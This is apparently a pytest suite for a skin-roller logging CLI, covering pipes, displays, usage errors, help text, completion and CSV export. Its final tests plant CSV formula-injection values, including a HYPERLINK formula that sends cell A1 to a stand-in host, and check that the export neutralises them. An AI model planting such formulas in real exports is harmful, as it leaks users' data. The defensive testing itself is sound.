"""The command line as scripts use it (contract section 3), attacked through real processes.

Pipes closed early, no display, a data folder with no data, usage errors, help, completion,
output a script can read, and CSV cells that must never run as formulas.
"""

from __future__ import annotations

import csv
import json
import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pypdf
import pytest

from tests.helpers import REPO_ROOT, run_cli, sample_document

PYTHON_CLI = f"{shlex.quote(sys.executable)} -m rollerlog"


def _environment(**changes: str | None) -> dict[str, str]:
    """The test process's environment for a child, with ``changes`` (None removes)."""
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO_ROOT)
    env.pop("ROLLERLOG_DATA_DIR", None)
    for key, value in changes.items():
        if value is None:
            env.pop(key, None)
        else:
            env[key] = value
    return env


def _run(
    *args: str, cwd: Path | None = None, **env: str | None
) -> subprocess.CompletedProcess[str]:
    """``python -m rollerlog ARGS`` (no --data-dir added) with an adjusted environment."""
    return subprocess.run(
        [sys.executable, "-m", "rollerlog", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=_environment(**env),
        cwd=cwd,
        timeout=120,
        check=False,
    )


def _import(document: dict[str, Any], folder: Path) -> Path:
    source = folder.parent / f"{folder.name}.json"
    source.write_text(json.dumps(document), encoding="utf-8")
    result = run_cli("import", str(source), data_dir=folder)
    assert result.returncode == 0, result.stderr
    return folder


def _one_line(text: str) -> str:
    lines = text.strip().splitlines()
    assert len(lines) == 1, text
    return lines[0]


@pytest.fixture(scope="module")
def many_rollers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder whose `status` is far longer than a pipe's buffer (64 KiB)."""
    folder = tmp_path_factory.mktemp("many") / "data"
    rollers = [
        {"name": f"Roller #{n}", "needle_mm": 0.5, "acquired_on": "2026-01-02"}
        for n in range(1, 1201)
    ]
    document = {"format": "rollerlog", "version": 1, "rollers": rollers}
    return _import(document, folder)


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder holding the sample document."""
    return _import(sample_document(), tmp_path_factory.mktemp("sample") / "data")


# --- Output cut short by the reader ----------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    ["status", "status --json", "areas", "--help", "export --help", "completion bash"],
)
def test_a_pipe_closed_early_ends_quietly_every_time(
    many_rollers: Path, tmp_path: Path, command: str
) -> None:
    err = tmp_path / "stderr.txt"
    line = (
        f"set -o pipefail; {PYTHON_CLI} --data-dir {shlex.quote(str(many_rollers))} "
        f"{command} 2>{shlex.quote(str(err))} | head -c 20 >/dev/null"
    )
    for attempt in range(6):  # it used to fail 5 times in 6: once is not enough
        result = subprocess.run(
            ["bash", "-c", line], env=_environment(), capture_output=True, text=True, check=False
        )
        assert err.read_text(encoding="utf-8") == "", (attempt, command)
        assert result.stderr == ""
        # As a shell reports a writer ended by SIGPIPE (128 + 13), or 0 when it wrote all.
        assert result.returncode in (0, 141), (attempt, command, result.returncode)


def test_status_into_head_prints_its_first_line_and_nothing_on_stderr(
    many_rollers: Path, tmp_path: Path
) -> None:
    err = tmp_path / "stderr.txt"
    line = (
        f"set -o pipefail; {PYTHON_CLI} --data-dir {shlex.quote(str(many_rollers))} "
        f"status 2>{shlex.quote(str(err))} | head -1"
    )
    for _ in range(6):
        result = subprocess.run(
            ["bash", "-c", line], env=_environment(), capture_output=True, text=True, check=False
        )
        assert result.stdout.startswith("Status as of ")
        assert len(result.stdout.splitlines()) == 1
        assert err.read_text(encoding="utf-8") == ""
        assert "Broken pipe" not in result.stderr
        # 1,200 rollers never fit the pipe: the writer always sees the reader go away.
        assert result.returncode == 141


# --- No display -----------------------------------------------------------------------------


@pytest.mark.skipif(sys.platform in ("win32", "darwin"), reason="there is always a display")
@pytest.mark.parametrize(
    "program",
    [
        [sys.executable, "-m", "rollerlog"],
        [
            sys.executable,
            "-c",
            "import sys; from rollerlog.cli import app_main; sys.exit(app_main())",
        ],
    ],
    ids=["rollerlog", "rollerlog-app"],
)
def test_without_a_display_the_app_says_so_in_one_line(tmp_path: Path, program: list[str]) -> None:
    data = tmp_path / "data"
    env = _environment(DISPLAY=None, WAYLAND_DISPLAY=None, QT_QPA_PLATFORM=None)
    result = subprocess.run(
        [*program, "--data-dir", str(data)],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        timeout=120,
        check=False,
    )
    assert result.returncode == 1  # not 134 (an abort)
    message = _one_line(result.stderr)
    assert "no display" in message
    assert "DISPLAY" in message
    assert "WAYLAND_DISPLAY" in message
    assert "rollerlog --help" in message  # how to use a command instead
    assert "qt." not in result.stderr.lower()
    assert "plugin" not in result.stderr
    assert result.stdout == ""
    assert not list(tmp_path.glob("core*")), "a core file was written"
    assert not data.exists(), "the app got as far as the data"


@pytest.mark.skipif(sys.platform != "linux", reason="X11 displays and core files as on Linux")
def test_a_display_that_cannot_be_reached_leaves_no_core_file(tmp_path: Path) -> None:
    # Qt aborts on a stale DISPLAY; with core files allowed, the abort would write one
    # holding whatever the process had in memory.
    program = (
        f"ulimit -c unlimited; exec {PYTHON_CLI} --data-dir {shlex.quote(str(tmp_path / 'd'))}"
    )
    env = _environment(DISPLAY=":987", WAYLAND_DISPLAY=None, QT_QPA_PLATFORM=None)
    result = subprocess.run(
        ["bash", "-c", program], capture_output=True, env=env, cwd=tmp_path, timeout=120,
        check=False,
    )  # fmt: skip
    assert result.returncode != 0
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith("core")]


@pytest.mark.skipif(sys.platform in ("win32", "darwin"), reason="there is always a display")
def test_without_a_display_commands_still_work(sample: Path) -> None:
    result = _run(
        "--data-dir", str(sample), "status", DISPLAY=None, WAYLAND_DISPLAY=None,
        QT_QPA_PLATFORM=None,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr


# --- Reading commands never create data ------------------------------------------------------

READING_COMMANDS = [
    ["status"],
    ["status", "--json"],
    ["plan", "--roller", "Face 0.5", "--area", "chin"],
    ["export", "--format", "json", "--out", "OUT"],
    ["export", "--format", "csv", "--out", "OUT"],
    ["export", "--format", "pdf", "--out", "OUT"],
    ["check"],
    ["backup"],
    ["backup", "--out", "OUT"],
]


@pytest.mark.parametrize("folder_exists", [False, True], ids=["no-folder", "empty-folder"])
@pytest.mark.parametrize("command", READING_COMMANDS, ids=" ".join)
def test_reading_commands_on_a_folder_without_data_say_so_and_create_nothing(
    tmp_path: Path, command: list[str], folder_exists: bool
) -> None:
    data = tmp_path / "typo"
    if folder_exists:
        data.mkdir()
    out = tmp_path / "out.file"
    args = [str(out) if arg == "OUT" else arg for arg in command]
    result = run_cli(*args, data_dir=data)
    assert result.returncode == 1, result.stdout + result.stderr
    assert _one_line(result.stderr).startswith(f"rollerlog: no rollerlog data in {data}")
    assert data.exists() is folder_exists, "the folder was created"
    if folder_exists:
        assert list(data.iterdir()) == [], "something was written into the folder"
    assert not out.exists()
    assert result.stdout == ""


def test_import_creates_the_data_a_reading_command_then_finds(tmp_path: Path) -> None:
    data = _import({"format": "rollerlog", "version": 1}, tmp_path / "new")
    assert run_cli("status", data_dir=data).returncode == 0
    assert run_cli("check", data_dir=data).returncode == 0


# --- Usage errors: one line naming the option, exit 2 -----------------------------------------

USAGE_ERRORS = [
    # bad DATE and DATETIME
    (["status", "--on", "2026-02-30"], "--on", "YYYY-MM-DD"),
    (["status", "--on", "yesterday"], "--on", "YYYY-MM-DD"),
    (["export", "--format", "csv", "--out", "OUT", "--from", "2026-13-01"], "--from", "YYYY-MM-DD"),
    (["export", "--format", "pdf", "--out", "OUT", "--to", "1.2.2026"], "--to", "YYYY-MM-DD"),
    (["plan", "--roller", "R", "--area", "chin", "--at", "2026-03-01"], "--at", "YYYY-MM-DDTHH:MM"),
    (["plan", "--roller", "R", "--area", "chin", "--at", "2026-03-01T25:00"], "--at", "HH:MM"),
    # options that do not apply to the chosen format
    (["export", "--format", "csv", "--out", "OUT", "--paper", "a4"], "--paper", "pdf"),
    (["export", "--format", "csv", "--out", "OUT", "--name", "Zoë"], "--name", "pdf"),
    (["export", "--format", "pdf", "--out", "OUT", "--what", "sessions"], "--what", "csv"),
    (["export", "--format", "json", "--out", "OUT", "--what", "sessions"], "--what", "csv"),
    (["export", "--format", "json", "--out", "OUT", "--paper", "letter"], "--paper", "pdf"),
    (
        ["export", "--format", "json", "--out", "OUT", "--from", "2026-01-01"],
        "--from",
        "csv and pdf",
    ),
    (["export", "--format", "json", "--out", "OUT", "--to", "2026-01-01"], "--to", "csv and pdf"),
    (["export", "--format", "json", "--out", "OUT", "--roller", "R"], "--roller", "csv and pdf"),
    (["export", "--format", "json", "--out", "OUT", "--area", "chin"], "--area", "csv and pdf"),
    # unknown choices
    (["export", "--format", "xml", "--out", "OUT"], "--format", "json, csv or pdf"),
    (["export", "--format", "pdf", "--out", "OUT", "--paper", "b5"], "--paper", "a4 or letter"),
    (["export", "--format", "csv", "--out", "OUT", "--what", "rows"], "--what", "sessions or"),
    (
        ["export", "--format", "csv", "--out", "OUT", "--area", "cheeks"],
        "--area",
        "rollerlog areas",
    ),
    (["plan", "--roller", "R", "--area", "Cheeks"], "--area", "rollerlog areas"),
    (["completion", "fish"], "SHELL", "bash, zsh or tcsh"),
    (["stauts"], "status", "import, export"),
    # the command line's shape
    (["export", "--format", "csv"], "--out", "usage: rollerlog export"),
    (["status", "--jsn"], "--json", "usage: rollerlog status"),
    (["export", "--form", "csv", "--out", "OUT"], "--format", "usage: rollerlog export"),
]


@pytest.mark.parametrize(("args", "option", "expected"), USAGE_ERRORS, ids=lambda a: str(a))
def test_usage_errors_are_one_line_naming_the_option_and_exit_2(
    sample: Path, tmp_path: Path, args: list[str], option: str, expected: str
) -> None:
    out = tmp_path / "out.file"
    before = sorted(p.name for p in sample.iterdir())
    result = run_cli(*(str(out) if a == "OUT" else a for a in args), data_dir=sample)
    assert result.returncode == 2, result.stdout + result.stderr
    line = _one_line(result.stderr)
    assert option in line
    assert expected in line
    assert "Traceback" not in line
    assert not out.exists()
    assert sorted(p.name for p in sample.iterdir()) == before


def test_a_mistyped_option_shows_that_commands_usage_not_the_top_levels(sample: Path) -> None:
    result = run_cli(
        "plan", "--roller", "Face 0.5", "--area", "chin", "--tset-patch", data_dir=sample
    )
    assert result.returncode == 2
    line = _one_line(result.stderr)
    assert line.startswith("rollerlog plan: unrecognized arguments: --tset-patch")
    assert "did you mean --test-patch?" in line
    assert "usage: rollerlog plan " in line
    assert "usage: rollerlog [-h]" not in line
    assert "COMMAND" not in line


def test_a_usage_error_writes_no_control_characters_to_the_terminal(sample: Path) -> None:
    result = run_cli("status", "--on", "\x1b[31m2026\x07", data_dir=sample)
    assert result.returncode == 2
    assert "\x1b" not in result.stderr
    assert "\x07" not in result.stderr
    assert "\\x1b[31m2026\\x07" in result.stderr


def test_a_time_the_clocks_skip_is_a_usage_error(sample: Path) -> None:
    # In Berlin the clocks went from 02:00 to 03:00 on 29 March 2026.
    skipped = _run(
        "--data-dir", str(sample), "plan", "--roller", "Face 0.5", "--area", "chin",
        "--at", "2026-03-29T02:30", TZ="Europe/Berlin",
    )  # fmt: skip
    assert skipped.returncode == 2
    assert "--at" in _one_line(skipped.stderr)
    assert "does not exist in local time" in skipped.stderr
    fine = _run(
        "--data-dir", str(sample), "plan", "--roller", "Face 0.5", "--area", "chin",
        "--at", "2026-03-29T03:30", "--json", TZ="Europe/Berlin",
    )  # fmt: skip
    assert fine.returncode in (0, 3), fine.stderr


def test_choices_ignore_case(sample: Path, tmp_path: Path) -> None:
    out = tmp_path / "log.pdf"
    pdf = run_cli(
        "export", "--format", "PDF", "--paper", "A4", "--out", str(out), "--area", "Left-Cheek",
        data_dir=sample,
    )  # fmt: skip
    assert pdf.returncode == 0, pdf.stderr
    width, height = pypdf.PdfReader(out).pages[0].mediabox.upper_right
    assert (round(float(width)), round(float(height))) == (595, 842)  # A4 in points
    sterilizations = tmp_path / "s.csv"
    result = run_cli(
        "export", "--format", "Csv", "--what", "STERILIZATIONS", "--out", str(sterilizations),
        data_dir=sample,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert sterilizations.read_text(encoding="utf-8-sig").startswith("date,time,roller,method")
    completion = run_cli("completion", "BASH", data_dir=sample)
    assert completion.returncode == 0


# --- Default paper: LC_PAPER first -----------------------------------------------------------


@pytest.mark.parametrize(
    ("locale", "size"),
    [
        ({"LC_PAPER": "en_US.UTF-8", "LC_ALL": "de_DE.UTF-8", "LANG": "de_DE.UTF-8"}, (612, 792)),
        ({"LC_PAPER": "de_DE.UTF-8", "LC_ALL": None, "LANG": "en_US.UTF-8"}, (595, 842)),
        ({"LC_PAPER": None, "LC_ALL": None, "LANG": "en_CA.UTF-8"}, (612, 792)),
    ],
)
def test_the_default_paper_follows_lc_paper_first(
    sample: Path, tmp_path: Path, locale: dict[str, str | None], size: tuple[int, int]
) -> None:
    out = tmp_path / "log.pdf"
    result = _run(
        "--data-dir", str(sample), "export", "--format", "pdf", "--out", str(out), **locale
    )
    assert result.returncode == 0, result.stderr
    width, height = pypdf.PdfReader(out).pages[0].mediabox.upper_right
    assert (round(float(width)), round(float(height))) == size


# --- Help that teaches ---------------------------------------------------------------------

COMMANDS = [
    "import",
    "export",
    "check",
    "backup",
    "restore",
    "status",
    "plan",
    "areas",
    "completion",
]


def test_every_option_of_every_command_has_a_help_line() -> None:
    import argparse

    from rollerlog.cli import build_parser

    parser = build_parser()
    (commands,) = (a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    parsers = {"": parser} | {name: commands.choices[name] for name in COMMANDS}
    for name, command in parsers.items():
        for action in command._actions:
            if isinstance(action, argparse._SubParsersAction):
                continue
            assert action.help, (name, action.dest)
            assert action.help != argparse.SUPPRESS, (name, action.dest)


@pytest.mark.parametrize("command", COMMANDS)
def test_each_commands_help_lists_its_exit_codes(tmp_path: Path, command: str) -> None:
    result = _run(command, "--help", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert f"usage: rollerlog {command}" in result.stdout
    codes = result.stdout.split("exit codes:", 1)[1]
    assert "0  " in codes
    assert "2  a usage error" in codes
    if command == "plan":
        assert "3  something says stop" in codes


def test_help_explains_dates_times_and_where_the_areas_are_listed(tmp_path: Path) -> None:
    top = _run("--help", cwd=tmp_path).stdout
    for text in ("YYYY-MM-DD", "YYYY-MM-DDTHH:MM", "rollerlog areas", "exit codes:"):
        assert text in top
    assert "YYYY-MM-DD" in _run("status", "--help").stdout
    plan = _run("plan", "--help").stdout
    assert "YYYY-MM-DDTHH:MM" in plan
    assert "rollerlog areas" in plan
    export = _run("export", "--help").stdout
    assert "YYYY-MM-DD" in export
    assert "rollerlog areas" in export
    assert "_rollers" not in top  # the completion helper stays hidden


def test_areas_lists_the_catalogue_slug_first(tmp_path: Path) -> None:
    from rollerlog.domain.areas import AREAS

    result = _run("areas", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert [line.split()[0] for line in lines] == [area.slug for area in AREAS]
    assert "Left cheek" in lines[2]
    assert "Face" in lines[2]


# --- Completion ------------------------------------------------------------------------------


@pytest.fixture
def rollerlog_on_path(tmp_path: Path) -> dict[str, str]:
    """An environment whose PATH has a `rollerlog` running this checkout."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    launcher = bin_dir / "rollerlog"
    launcher.write_text(
        f'#!/bin/sh\nexec {shlex.quote(sys.executable)} -m rollerlog "$@"\n', encoding="utf-8"
    )
    launcher.chmod(0o755)
    return _environment(PATH=f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")


def _completion_script(shell: str, tmp_path: Path) -> Path:
    result = _run("completion", shell, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    script = tmp_path / f"completion.{shell}"
    script.write_text(result.stdout, encoding="utf-8")
    return script


def test_the_bash_completion_script_is_valid_bash(tmp_path: Path) -> None:
    script = _completion_script("bash", tmp_path)
    checked = subprocess.run(
        ["bash", "-n", str(script)], capture_output=True, text=True, check=False
    )
    assert checked.returncode == 0, checked.stderr


@pytest.mark.skipif(shutil.which("zsh") is None, reason="zsh is not installed")
def test_the_zsh_completion_script_is_valid_zsh(tmp_path: Path) -> None:
    script = _completion_script("zsh", tmp_path)
    checked = subprocess.run(
        ["zsh", "-n", str(script)], capture_output=True, text=True, check=False
    )
    assert checked.returncode == 0, checked.stderr


@pytest.mark.skipif(shutil.which("zsh") is None, reason="zsh is not installed")
def test_zsh_offers_the_roller_names_of_the_data(
    sample: Path, tmp_path: Path, rollerlog_on_path: dict[str, str]
) -> None:
    script = _completion_script("zsh", tmp_path)
    # Outside a completion widget compadd cannot run: stand in for it, printing what it got.
    program = (
        "compdef() { : }\n"
        f"source {shlex.quote(str(script))}\n"
        'compadd() { [[ $1 == -a ]] && print -rl -- "${(@P)2}" }\n'
        f"words=(rollerlog --data-dir {shlex.quote(str(sample))} plan --roller '')\n"
        "_rollerlog_roller_names\n"
    )
    result = subprocess.run(
        ["zsh", "-f", "-c", program],
        capture_output=True,
        text=True,
        env=rollerlog_on_path,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert sorted(result.stdout.splitlines()) == ["Body 1.0 ✨", "Face 0.5"]


def test_the_tcsh_completion_script_completes_the_commands(tmp_path: Path) -> None:
    script = _completion_script("tcsh", tmp_path)
    text = script.read_text(encoding="utf-8")
    assert "'n/--roller/`rollerlog _rollers`/'" in text  # names, where tcsh allows
    if shutil.which("tcsh"):
        sourced = subprocess.run(
            ["tcsh", "-f", "-c", f"source {shlex.quote(str(script))} && echo sourced"],
            capture_output=True, text=True, check=False,
        )  # fmt: skip
        assert sourced.stdout.strip() == "sourced", sourced.stderr
    assert text.lstrip().startswith("#")
    assert "complete rollerlog" in text
    assert "status" in text
    assert "export" in text


def _bash_complete(script: Path, words: list[str], env: dict[str, str]) -> list[str]:
    """What bash offers for the last of ``words`` (the completion function run for real)."""
    quoted = " ".join(shlex.quote(word) for word in words)
    program = (
        f"source {shlex.quote(str(script))}\n"
        f"COMP_WORDS=({quoted}); COMP_CWORD={len(words) - 1}\n"
        "_shtab_rollerlog\n"
        'printf "%s\\n" "${COMPREPLY[@]}"\n'
    )
    result = subprocess.run(
        ["bash", "-c", program], capture_output=True, text=True, env=env, timeout=120, check=False
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.splitlines()


def test_bash_completes_roller_names_from_the_data(
    sample: Path, tmp_path: Path, rollerlog_on_path: dict[str, str]
) -> None:
    script = _completion_script("bash", tmp_path)
    data = ["rollerlog", "--data-dir", str(sample)]
    offered = _bash_complete(script, [*data, "plan", "--roller", "Fa"], rollerlog_on_path)
    assert offered == ["Face\\ 0.5"]  # escaped, so the space stays inside the word
    every = _bash_complete(script, [*data, "export", "--roller", ""], rollerlog_on_path)
    assert sorted(every) == sorted(["Face\\ 0.5", "Body\\ 1.0\\ ✨"])
    areas = _bash_complete(script, [*data, "plan", "--area", "left-c"], rollerlog_on_path)
    assert areas == ["left-cheek"]
    commands = _bash_complete(script, ["rollerlog", "sta"], rollerlog_on_path)
    assert commands == ["status"]


def test_the_roller_names_helper_never_creates_data(tmp_path: Path) -> None:
    result = run_cli("_rollers", data_dir=tmp_path / "none")
    assert result.returncode == 0
    assert result.stdout == ""
    assert result.stderr == ""
    assert not (tmp_path / "none").exists()


# --- Human output that scripts can still read -------------------------------------------------


def test_status_lists_rollers_in_natural_order(tmp_path: Path) -> None:
    names = ["Roller #10", "roller #2", "Roller #1", "Body"]
    rollers = [{"name": n, "needle_mm": 0.5, "acquired_on": "2026-01-02"} for n in names]
    data = _import({"format": "rollerlog", "version": 1, "rollers": rollers}, tmp_path / "d")
    result = run_cli("status", "--on", "2026-02-01", data_dir=data)
    assert result.returncode == 0, result.stderr
    listed = [line.split("  ")[1] for line in result.stdout.splitlines() if "0.5 mm" in line]
    assert listed == ["Body", "Roller #1", "roller #2", "Roller #10"]


def test_a_discarded_roller_is_not_shown_as_needing_cleaning(sample: Path) -> None:
    result = run_cli("status", "--on", "2026-02-12", data_dir=sample)
    assert result.returncode == 0, result.stderr
    (body,) = [line for line in result.stdout.splitlines() if line.startswith("  Body 1.0")]
    assert "discarded" in body
    assert "needs cleaning" not in body
    (face,) = [line for line in result.stdout.splitlines() if line.startswith("  Face 0.5")]
    assert "needs cleaning" in face  # a roller in use still says so


def test_plan_shows_each_findings_code_beside_its_title(sample: Path) -> None:
    from rollerlog.domain.findings import title_of

    result = run_cli(
        "plan", "--roller", "Face 0.5", "--area", "left-cheek", "--at", "2026-02-02T20:00",
        data_dir=sample,
    )  # fmt: skip
    codes = json.loads(
        run_cli(
            "plan",
            "--roller",
            "Face 0.5",
            "--area",
            "left-cheek",
            "--at",
            "2026-02-02T20:00",
            "--json",
            data_dir=sample,
        ).stdout
    )["findings"]
    assert result.returncode == 3
    assert codes
    for finding in codes:
        assert f"{title_of(finding['code'])} [{finding['code']}]" in result.stdout


def test_status_before_any_roller_was_acquired_says_so(sample: Path) -> None:
    result = run_cli("status", "--on", "2025-12-01", data_dir=sample)
    assert result.returncode == 0, result.stderr
    assert "none acquired yet on this day (the first was acquired on 2 January 2026)" in (
        result.stdout
    )
    assert "add one" not in result.stdout


# --- CSV that no spreadsheet runs -------------------------------------------------------------


def _hostile_document() -> dict[str, Any]:
    return {
        "format": "rollerlog",
        "version": 1,
        "rollers": [
            {"name": '=HYPERLINK("http://x.example/"&A1,"click")', "needle_mm": 0.5,
             "acquired_on": "2026-01-02"},
            {"name": "Plain", "needle_mm": 0.5, "acquired_on": "2026-01-02"},
        ],
        "sessions": [
            {"at": "2026-01-05T20:00", "roller": '=HYPERLINK("http://x.example/"&A1,"click")',
             "areas": ["chin"], "topical": "+SUM(A1:A9)", "notes": "-2+3",
             "acknowledged": [{"code": "not-sterilized", "reason": "@cmd"}]},
            {"at": "2026-01-06T20:00", "roller": "Plain", "areas": ["nose"],
             "topical": "\tserum", "notes": "\rhidden", "acknowledged": [
                 {"code": "not-sterilized", "reason": "fine"}]},
        ],
        "sterilizations": [
            {"at": "2026-01-05T20:30", "roller": '=HYPERLINK("http://x.example/"&A1,"click")',
             "method": "other"},
        ],
    }  # fmt: skip


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def test_csv_cells_that_would_run_as_formulas_are_written_behind_a_quote(tmp_path: Path) -> None:
    data = _import(_hostile_document(), tmp_path / "d")
    sessions, sterilizations = tmp_path / "sessions.csv", tmp_path / "sterilizations.csv"
    assert (
        run_cli("export", "--format", "csv", "--out", str(sessions), data_dir=data).returncode == 0
    )
    assert (
        run_cli(
            "export",
            "--format",
            "csv",
            "--what",
            "sterilizations",
            "--out",
            str(sterilizations),
            data_dir=data,
        ).returncode
        == 0
    )

    first, second = _read_csv(sessions)
    assert first["roller"] == '\'=HYPERLINK("http://x.example/"&A1,"click")'
    assert first["topical"] == "'+SUM(A1:A9)"
    assert first["notes"] == "'-2+3"
    assert second["topical"] == "'\tserum"
    assert second["notes"] == "'\rhidden"
    assert second["roller"] == "Plain"  # ordinary text is left alone
    assert first["acknowledged"] == "not-sterilized: @cmd"  # starts with a letter: harmless
    (cleaning,) = _read_csv(sterilizations)
    assert cleaning["roller"] == '\'=HYPERLINK("http://x.example/"&A1,"click")'
    for row in [first, second, cleaning]:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
